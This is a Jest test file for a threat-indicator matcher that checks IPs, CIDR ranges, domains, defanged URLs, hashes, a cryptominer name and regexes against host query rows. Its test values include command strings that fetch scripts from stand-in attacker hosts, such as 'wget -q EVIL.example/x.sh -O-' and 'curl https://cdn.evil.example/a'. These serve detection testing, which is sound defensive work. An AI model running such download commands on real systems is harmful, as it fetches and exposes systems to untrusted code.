import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { wordFinder } from '../../src/indicators/literals.ts'
import { compileIndicators } from '../../src/indicators/matcher.ts'
import { cpuMilliseconds } from '../support/cpu-time.ts'
import { query } from '../support/fleets.ts'
import { indicatorsIn } from '../support/indicators.ts'

describe('words in a text', () => {
  test('overlapping words are all found', () => {
    const find = wordFinder(['he', 'she', 'his', 'hers', 'ushers'])
    expect([...find('ushers')].sort()).toEqual([0, 1, 3, 4])
    expect(find('hi')).toEqual([])
  })

  test('as searching for each word finds them', () => {
    const word = fc.string({ unit: fc.constantFrom('a', 'b', 'c', 'é'), minLength: 1, maxLength: 5 })
    fc.assert(
      fc.property(
        fc.uniqueArray(word, { maxLength: 30 }),
        fc.string({ unit: fc.constantFrom('a', 'b', 'c', 'é'), maxLength: 60 }),
        (words, text) => {
          expect([...wordFinder(words)(text)].sort((a, b) => a - b)).toEqual(
            words.flatMap((one, at) => (text.includes(one) ? [at] : []))
          )
        }
      )
    )
  })
})

describe('an indicator', () => {
  test.each([
    ['11.2.3.45', 'tcp 11.2.3.45:443', true],
    ['11.2.3.45', '111.2.3.45', false],
    ['11.2.3.45', '11.2.3.456', false],
    ['11.2.3.45', '1.11.2.3.45', false],
    ['11.2.3.45', '::ffff:11.2.3.45', true],
    ['11.2.3.0/24', 'curl http://11.2.3.9/x', true],
    ['11.2.3.0/25', 'curl http://11.2.3.200/x', false],
    ['2001:db8::/32', '[2001:db8::5]:443', true],
    ['2001:db8::5', '2001:db8::55', false],
    ['evil.example', 'curl https://cdn.evil.example/a', true],
    ['evil.example', 'notevil.example', false],
    ['evil.example', 'evil.example.org', false],
    ['hxxp://evil[.]example/x.sh', 'wget -q EVIL.example/x.sh -O-', true],
    ['ab'.repeat(32), 'AB'.repeat(32), true],
    ['ab'.repeat(32), `x${'ab'.repeat(32)}ff`, false],
    ['XMRig', '/opt/xmrig', true],
    ['/^\\/opt\\/x/', '/OPT/xmrig', true],
    ['ports.note=443', '443', true],
    ['listening_ports.note=443', '443', true],
    ['cron.note=443', '443', false]
  ])('%s in "%s": %s', async (indicator, value, wanted) => {
    const matches = compileIndicators(await indicatorsIn(indicator))
    expect(matches(query('ports', ['note']), { note: value })).toHaveLength(wanted ? 1 : 0)
  })
})

test('ten thousand indicators take hardly longer than one: rows are not compared with each', async () => {
  const digest = (at: number) => at.toString(16).padStart(64, '0')
  const lines = Array.from({ length: 10_000 }, (_, at) =>
    at % 3 === 0 ? digest(at) : at % 3 === 1 ? `11.${at >> 8}.${at & 255}.1` : `/opt/evil-${at}/run`
  )
  const matches = compileIndicators(await indicatorsIn(lines.join('\n')))
  const programs = query('programs', ['path'])
  let found = 0
  const search = () => {
    for (let row = 0; row < 100_000; row++) {
      const values = {
        path: `/usr/lib/systemd/systemd-${row}`,
        cmdline: `/opt/evil-${row}/run --at 10.0.0.${row & 255}`,
        sha256: digest(row + 5_000)
      }
      found += matches(programs, values).length
    }
  }
  expect(cpuMilliseconds(search)).toBeLessThan(10_000)
  expect(found).toBe(3_333 + 1_667)
})
